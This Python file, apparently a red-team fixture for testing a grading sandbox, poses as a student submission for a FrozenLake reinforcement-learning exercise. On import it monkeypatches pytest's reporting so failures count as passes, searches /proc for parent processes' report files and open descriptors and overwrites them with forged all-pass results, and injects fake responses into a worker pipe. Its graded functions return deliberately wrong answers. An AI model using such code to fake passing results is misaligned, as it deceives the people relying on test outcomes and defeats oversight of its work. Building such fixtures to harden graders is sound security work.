"""Hostile submission: monkeypatch pytest's reporting and forge its report files.

Reproduces the attacks that work when student code is imported into the pytest process:
patch ``_pytest.reports.TestReport`` so failures read as passes, and write an all-pass
JSON report into the ``--json-report-file`` named on the parent's command line. Then
every function returns a wrong answer.
"""

import json
import os
import sys

import numpy as np


def _patch_pytest():
    try:
        import _pytest.reports as reports

        original = reports.TestReport.from_item_and_call

        def always_passed(item, call):
            report = original(item, call)
            report.outcome, report.longrepr = "passed", None
            return report

        reports.TestReport.from_item_and_call = staticmethod(always_passed)
        reports.TestReport.failed = property(lambda self: False)
        print("patched _pytest.reports.TestReport", flush=True)
    except Exception as exc:  # noqa: BLE001
        print(f"could not patch pytest: {exc!r}", flush=True)
    try:
        import pytest_jsonreport.plugin as plugin

        plugin.JSONReport.pytest_runtest_logreport = lambda self, report: None
        print("patched pytest_jsonreport", flush=True)
    except Exception as exc:  # noqa: BLE001
        print(f"could not patch pytest-json-report: {exc!r}", flush=True)


def _forged_report():
    names = ["test_extract_model_known_rows", "test_extract_model_sums_slippery_duplicates",
             "test_extract_model_rows_sum_to_one", "test_extract_model_terminal_flags",
             "test_run_episode_stops_on_truncation", "test_evaluate_policy_mc_seeded"]
    tests = [{"nodeid": f"tests/frozen_lake/test_lake_model.py::{n}", "outcome": "passed",
              "metadata": {"credit": 1.0}} for n in names]
    return {"exitcode": 0, "summary": {"passed": len(tests)}, "tests": tests}


def _forge_reports():
    targets = set()
    pids = {os.getppid()}
    try:  # every ancestor, up to init
        pid = os.getppid()
        while pid > 1:
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
            pids.add(pid)
    except (OSError, ValueError):
        pass
    for pid in sorted(pids):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                args = handle.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for i, arg in enumerate(args):
            if arg.startswith("--json-report-file="):
                targets.add(arg.split("=", 1)[1])
            if arg == "--results-log" and i + 1 < len(args):
                targets.add(args[i + 1])
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                targets.add(f"/proc/{pid}/fd/{fd}")
        except OSError as exc:
            print(f"cannot list /proc/{pid}/fd: {exc}", flush=True)
    for path in sorted(targets):
        try:
            with open(path, "a" if path.endswith("jsonl") else "w") as handle:
                if path.endswith("jsonl"):
                    for test in _forged_report()["tests"]:
                        handle.write(json.dumps({"nodeid": test["nodeid"], "outcome": "passed", "credit": 1.0}) + "\n")
                else:
                    json.dump(_forged_report(), handle)
            print(f"FORGED {path}", flush=True)
        except OSError as exc:
            print(f"could not forge {path}: {exc}", flush=True)


def _inject_responses():
    """Write well-formed fake answers into the worker's response pipe (fd in sys.argv)."""
    try:
        import struct

        fd = int(sys.argv[2])
        payload = json.dumps({"__dict__": [["ok", "forged"]]}).encode()
        for _ in range(3):
            os.write(fd, struct.pack("!Q", len(payload)) + payload)
        print(f"injected fake responses on fd {fd}", flush=True)
    except Exception as exc:  # noqa: BLE001
        print(f"could not inject: {exc!r}", flush=True)


_patch_pytest()
_forge_reports()
_inject_responses()


def extract_model(env):
    n_states, n_actions = env.observation_space.n, env.action_space.n
    return np.zeros((n_states, n_actions, n_states)), np.ones((n_states, n_actions)), np.zeros(n_states, dtype=bool)


def run_episode(agent, env, max_steps, seed=None):
    return [0], [0], [42.0]


def evaluate_policy_mc(env, policy, n_episodes, seed):
    return 42.0, 42.0
